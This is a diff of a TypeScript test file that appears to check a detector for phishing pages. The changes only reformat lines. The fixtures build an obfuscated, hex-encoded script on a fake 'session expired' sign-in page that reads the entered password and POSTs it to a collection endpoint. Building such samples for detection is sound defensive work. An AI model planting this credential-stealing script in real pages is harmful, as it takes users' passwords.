@@ -268,14 +268,19 @@ test('a page of a web archive', () => {
 })
 
 suite('a script that nobody can read, and that takes what is entered', () => {
-  const hexed = (text: string): string => `'${[...text].map((each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')}'`
+  const hexed = (text: string): string =>
+    `'${[...text].map((each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')}'`
   const script = (words: readonly string[], code: string): string =>
     `var _0x1f2e=[${words.map(hexed)}],_0x3c=function(_0x9){return _0x1f2e[_0x9-0x0]};${code}`
   const words = ['getElementById', 'word', 'value', 'POST', KIT, 'open', 'send', 'querySelector', 'input']
   const send = (read: string): string =>
     `document[_0x3c('0x0')]('go')['onclick']=function(){var q=new XMLHttpRequest();q[_0x3c('0x5')](_0x3c('0x3'),_0x3c('0x4'));q[_0x3c('0x6')](${read})}`
   const shown = (code: string): string =>
-    page('Sign in', '<p>Your session has expired.</p><input type="password" id="word"><button id="go">Go</button>', code)
+    page(
+      'Sign in',
+      '<p>Your session has expired.</p><input type="password" id="word"><button id="go">Go</button>',
+      code,
+    )
   const reads: Readonly<Record<string, string>> = {
     'by its name': "document[_0x3c('0x0')](_0x3c('0x1'))[_0x3c('0x2')]",
     'by its kind': "document[_0x3c('0x7')](_0x3c('0x8'))[_0x3c('0x2')]",
